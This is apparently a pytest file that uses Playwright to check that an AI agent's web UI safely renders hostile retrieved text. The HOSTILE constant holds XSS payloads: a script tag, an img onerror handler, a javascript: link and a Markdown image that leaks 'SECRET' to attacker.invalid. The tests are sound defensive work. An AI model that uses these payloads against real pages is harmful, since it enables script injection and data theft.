"""The web page against hostile text, in a real browser (Debian's chromium, Playwright): a retrieved
document with a <script>, an <img onerror> and a remote Markdown image, which the (scripted) model
quotes in its answer. The page runs none of it and makes no request outside the server."""

from __future__ import annotations

import os
import re
from typing import Any

import pytest

from heron.agents.serve import create_app
from heron.config import Settings
from heron.llm.fake import ScriptedLLM
from tests.agents.serve_helpers import served
from tests.conftest import REPO_ROOT

CHROMIUM = os.environ.get("HERON_TEST_CHROMIUM", "/usr/bin/chromium")
SCREENSHOTS = REPO_ROOT / "benchmarks" / "out" / "serve-screenshots"
HOSTILE = (
    "Quarterly notes. <script>window.pwned = 'script'</script> "
    "<img src=x onerror=\"window.pwned = 'img'\"> ![chart](http://attacker.invalid/leak?q=SECRET) "
    "[details](javascript:window.pwned='link')"
)


def test_hostile_document_text_is_shown_as_text_and_fetches_nothing(settings: Settings) -> None:
    from playwright.sync_api import expect, sync_playwright

    from heron.memory import VectorMemory

    profile = {"docs": {"tools": [], "memory": "hostile"}}
    settings = settings.model_copy(update={"serve": Settings(serve={"profiles": profile}).serve})
    with VectorMemory(settings, collection="hostile") as memory:
        memory.add_texts([HOSTILE], [{"source": "notes.md"}])
    llm = ScriptedLLM(
        [
            {"action": "retrieve", "arguments": {"query": "quarterly notes"}},
            {"action": "final_answer", "answer": f"The notes say: {HOSTILE}", "citations": []},
        ]
    )
    requests: list[str] = []
    with served(create_app(settings, llm=llm)) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True)
        page = browser.new_page()
        page.on("request", lambda request: requests.append(request.url))
        dialogs: list[Any] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(url)
        page.fill("#question", "What do the quarterly notes say?")
        page.press("#question", "Enter")
        answer = page.locator(".msg.assistant").last
        expect(answer.locator(".status")).to_have_text(re.compile("succeeded"), timeout=60_000)
        assert "<script>window.pwned = 'script'</script>" in answer.locator(".answer").inner_text()
        answer.locator("details.card summary").first.click()  # the retrieved passage, shown as text
        assert "onerror" in answer.locator("details.card pre").first.inner_text()
        answer.locator("a").evaluate_all("links => links.forEach(a => a.click())")  # javascript: links
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / "hostile-document.png"), full_page=True)
        page.click("#nav-runs")
        page.locator("#runs tbody tr").first.click()
        expect(page.locator("#timeline li").first).to_be_visible()
        page.locator("#timeline details summary").evaluate_all("s => s.forEach(e => e.click())")
        assert page.evaluate("window.pwned") is None
        assert page.locator("script").count() == 1  # app.js only
        assert page.locator("img").count() == 0
        browser.close()
    assert not dialogs
    outside = [u for u in requests if not u.startswith(url)]
    assert outside == [], outside
    assert any("/v1/chat/completions" in u for u in requests)  # the log did watch the page's requests


@pytest.fixture(autouse=True)
def _chromium_present() -> None:
    assert os.path.exists(CHROMIUM), f"{CHROMIUM} is missing: `make test` installs it (make browser)"


def test_a_generated_image_shows_inline_with_its_provenance_and_reports_open(
    settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> None:
    from playwright.sync_api import expect, sync_playwright

    from heron.tools.image.tiny import build_tiny_pipeline

    tiny = build_tiny_pipeline(tmp_path_factory.mktemp("models") / "tiny-sd")
    profile = {"art": {"tools": ["generate_image"], "allow": ["generate_image"]}}
    settings = settings.model_copy(
        update={
            "serve": Settings(serve={"profiles": profile}).serve,
            "image": settings.image.model_copy(update={"model_path": tiny, "device": "cpu"}),
        }
    )
    reports = settings.data_dir / "evals"
    reports.mkdir(parents=True)
    (reports / "halueval-run.html").write_text(
        "<h1>HaluEval</h1><p>AUROC 0.71</p><script>window.x=1</script>"
    )
    prompt = "a red fox in fresh snow"
    llm = ScriptedLLM(
        [
            {
                "action": "generate_image",
                "arguments": {"prompt": prompt, "width": 64, "height": 64, "seed": 7, "steps": 2},
            },
            {"action": "final_answer", "answer": "Here is the fox.", "citations": []},
        ]
    )
    requests: list[str] = []
    with served(create_app(settings, llm=llm)) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True)
        page = browser.new_page()
        page.on("request", lambda request: requests.append(request.url))
        page.goto(url)
        page.fill("#question", "Draw a red fox in the snow.")
        page.press("#question", "Enter")
        answer = page.locator(".msg.assistant").last
        expect(answer.locator(".status")).to_have_text(re.compile("succeeded"), timeout=120_000)
        image = answer.locator("figure img")
        expect(image).to_be_visible()
        page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=image.element_handle())
        assert image.evaluate("img => img.naturalWidth") == 64
        caption = answer.locator("figcaption").inner_text()
        assert "AI-generated" in caption and f"prompt: {prompt}" in caption and "seed: 7" in caption
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / "chat-image.png"), full_page=True)

        page.click("#nav-reports")
        page.locator("#reports a", has_text="halueval-run.html").click()
        frame = page.frame_locator("#report")
        expect(frame.locator("h1")).to_have_text("HaluEval")
        page.screenshot(path=str(SCREENSHOTS / "reports.png"), full_page=True)
        assert page.evaluate("window.x") is None  # the report's own script never ran
        browser.close()
    assert all(u.startswith(url) for u in requests), requests
    assert any("/files/images/" in u for u in requests)


def test_the_status_line_names_the_answer_s_numbers_no_tool_result_shows(settings: Settings) -> None:
    """As `heron chat` does: a figure nothing the model was shown holds is named under the status, in
    the chat and in the run's timeline."""
    from playwright.sync_api import expect, sync_playwright

    llm = ScriptedLLM([{"action": "final_answer", "answer": "It is 12345.67 euros.", "citations": []}])
    own = "no tool result, document or the request shows 12345.67: the model's own figure, unchecked"
    with served(create_app(settings, llm=llm)) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True)
        page = browser.new_page()
        page.goto(url)
        page.fill("#question", "What is the combined revenue in euros?")
        page.press("#question", "Enter")
        status = page.locator(".msg.assistant").last.locator(".status")
        expect(status).to_have_text(re.compile("succeeded"), timeout=60_000)
        assert own in status.inner_text()
        page.click("#nav-runs")
        page.locator("#runs tbody tr").first.click()
        expect(page.locator("#timeline li").first).to_be_visible()
        assert own in page.locator("#timeline").inner_text()
        browser.close()
